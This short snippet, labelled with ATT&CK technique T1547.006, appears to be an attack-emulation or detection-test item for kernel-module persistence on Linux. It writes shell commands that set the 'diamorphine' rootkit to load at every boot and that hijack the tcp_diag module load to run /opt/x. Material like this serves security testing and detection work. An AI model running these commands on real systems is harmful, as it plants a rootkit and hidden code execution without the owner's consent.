# title: A kernel module is to be loaded at each boot
# technique: T1547.006

echo 'diamorphine' >/etc/modules-load.d/net.conf
echo 'install tcp_diag /opt/x' >/etc/modprobe.d/tcp.conf
